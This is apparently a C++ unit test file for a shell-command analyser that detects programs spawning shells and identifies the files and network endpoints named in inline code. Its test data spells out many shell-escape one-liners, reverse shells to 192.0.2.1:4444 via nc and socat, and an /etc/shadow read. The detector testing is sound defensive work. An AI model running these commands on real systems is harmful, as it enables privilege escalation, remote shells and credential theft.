#include "unit/shell/read_line.hpp"

#include <boost/test/unit_test.hpp>

BOOST_AUTO_TEST_SUITE(shell_escapes)

using namespace rulehost::shell;

namespace {

struct escape {
    std::string_view line;
    std::string_view program; ///< program that starts the shell
};

std::vector<std::string> wrappers_of_shells(line_reading const& line) {
    std::vector<std::string> all;
    for (auto const& each : line.read.commands)
        if (each.program == "sh" && each.via.count != 0)
            all.emplace_back(line.read.via(each).back());
    return all;
}

} // namespace

BOOST_AUTO_TEST_CASE(shell_that_a_program_starts_is_a_command_behind_it) {
    for (auto const& each : std::initializer_list<escape>{
             {"frobnicate /bin/sh", "frobnicate"},
             {"frobnicate --helper=/bin/sh", "frobnicate"},
             {"frobnicate -x /usr/bin/sh", "frobnicate"},
             {"frobnicate -H'/bin/sh #'", "frobnicate"},
             {"man -P 'sh -i' ls", "man"},
             {"PAGER='/bin/sh -i' git -p help", "git"},
             {"GIT_EDITOR=/bin/sh git commit", "git"},
             {"tar cf /dev/null f --checkpoint=1 --checkpoint-action=exec=sh", "tar"},
             {"tar xf a.tar -I 'sh -c \"sh <&2\"'", "tar"},
             {"rsync -e 'sh -c \"sh 0<&2\"' x y:z", "rsync"},
             {"ssh -o ProxyCommand=';sh 0<&2' x", "ssh"},
             {"scp -S /bin/sh x y:", "scp"},
             {"find . -exec /bin/sh \\; -quit", "find"},
             {"awk 'BEGIN{system(\"/bin/sh\")}'", "awk"},
             {"vim -c ':!/bin/sh'", "vi"},
             {"vim -c ':!sh'", "vi"},
             {"ed\n!/bin/sh\nq", "ed"},
             {"less /etc/profile\n!sh", "less"},
             {"mysql -e '\\! sh'", "mysql"},
             {"psql\n\\! sh", "psql"},
             {"sqlite3 /dev/null '.shell sh'", "sqlite3"},
             {"gdb -nx -ex '!sh' -ex quit", "gdb"},
             {"git -p help\n!/bin/sh", "git"},
             {"python3 -c 'import os; os.execl(\"/bin/sh\", \"sh\")'", "python"},
             {"python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", "python"},
             {"perl -e 'exec \"/bin/sh\"'", "perl"},
             {"ruby -e 'exec \"/bin/sh\"'", "ruby"},
             {"php -r 'system(\"/bin/sh\");'", "php"},
             {"lua -e 'os.execute(\"/bin/sh\")'", "lua"},
             {"node -e 'require(\"child_process\").spawn(\"/bin/sh\", {stdio: [0, 1, 2]})'", "node"},
             {"expect -c 'spawn /bin/sh;interact'", "expect"},
             {"latex --shell-escape '\\write18{/bin/sh}'", "latex"},
             {"echo 'esyscmd(/bin/sh)' | m4", "m4"},
             {"echo '/bin/sh <&2' | at now", "at"},
             {"echo '/bin/sh' > /tmp/s; frobnicate -r /tmp/s", "frobnicate"},
             {"nc -e /bin/sh 192.0.2.1 4444", "nc"},
             {"socat TCP:192.0.2.1:1 EXEC:/bin/sh", "socat"},
             {"env /bin/sh", "env"},
             {"nmap --script=x --interactive\n!sh", "nmap"}}) {
        line_reading const line(each.line);
        auto const found = wrappers_of_shells(line);
        BOOST_TEST(std::ranges::any_of(
                       found, [&](auto const& via) { return via == each.program || via == "python3" || via == "sh"; }),
                   each.line);
    }
}

BOOST_AUTO_TEST_CASE(path_of_a_shell_that_is_only_named_starts_none) {
    for (std::string_view const text : {"ls -l /bin/sh",
                                        "cp /bin/sh /tmp/x",
                                        "file /bin/bash",
                                        "useradd -s /bin/sh eve",
                                        "chsh -s /bin/sh",
                                        "chmod 4755 /bin/sh",
                                        "echo /bin/sh",
                                        "grep root:/bin/sh /etc/passwd",
                                        "which /bin/sh",
                                        "find / -name sh -path /bin/sh",
                                        "dd if=/bin/sh of=/tmp/x",
                                        "tar cf x.tar /bin/sh",
                                        "export SHELL=/bin/sh",
                                        "md5sum /bin/sh",
                                        "cat /bin/sh",
                                        "SHELL=/bin/sh frobnicate",
                                        "usermod -s /bin/sh eve",
                                        "ln -s /bin/sh /tmp/x",
                                        "test -x /bin/sh",
                                        "[ -x /bin/sh ]",
                                        "printf '%s\n' /bin/sh",
                                        "touch /bin/shx",
                                        "frobnicate /bin/shx"})
        BOOST_TEST(wrappers_of_shells(line_reading(text)).empty(), text);
}

BOOST_AUTO_TEST_CASE(program_texts_name_their_files_and_remote_ends) {
    struct effect_of {
        std::string_view line;
        std::string_view program;
        effect_kind kind;
        std::string target;
    };
    for (auto const& each : std::initializer_list<effect_of>{
             {"python3 -c 'print(open(\"/etc/shadow\").read())'", "python3", effect_kind::reads, "/etc/shadow"},
             {"python3 -c 'open(\"/tmp/x\",\"w\").write(\"a\")'", "python3", effect_kind::writes, "/tmp/x"},
             {"python3 -c 'open(\"/tmp/x\",\"a\").write(\"a\")'", "python3", effect_kind::appends, "/tmp/x"},
             {"python3 -c 'import urllib.request as r; r.urlretrieve(\"http://h.example/x\", \"/tmp/y\")'", "python3",
              effect_kind::fetches, "http://h.example/x"},
             {"python3 -c 'import socket; s=socket.socket(); s.connect((\"192.0.2.1\",4444))'", "python3",
              effect_kind::connects, "192.0.2.1:4444"},
             {"php -r '$s=fsockopen(\"192.0.2.1\",4444);'", "php", effect_kind::connects, "192.0.2.1:4444"},
             {"php -r 'file_put_contents(\"/tmp/x\", 1);'", "php", effect_kind::writes, "/tmp/x"},
             {"ruby -rsocket -e 'c=TCPSocket.new(\"192.0.2.1\",4444)'", "ruby", effect_kind::connects,
              "192.0.2.1:4444"},
             {"node -e 'require(\"net\").connect(4444, \"192.0.2.1\")'", "node", effect_kind::connects,
              "192.0.2.1:4444"},
             {"node -e 'require(\"fs\").writeFileSync(\"/tmp/x\", 1)'", "node", effect_kind::writes, "/tmp/x"},
             {"gawk 'BEGIN{s=\"/inet/tcp/0/192.0.2.1/4444\"; s |& getline}'", "gawk", effect_kind::connects,
              "192.0.2.1:4444"},
             {"awk 'BEGIN{print 1 > \"/tmp/x\"}'", "awk", effect_kind::writes, "/tmp/x"},
             {"perl -e 'open(F,\">/tmp/x\")'", "perl", effect_kind::writes, "/tmp/x"}}) {
        line_reading const line(each.line);
        auto const targets = line.targets(each.program, each.kind);
        BOOST_TEST((std::ranges::find(targets, each.target) != targets.end()), each.line);
    }
}

BOOST_AUTO_TEST_SUITE_END()
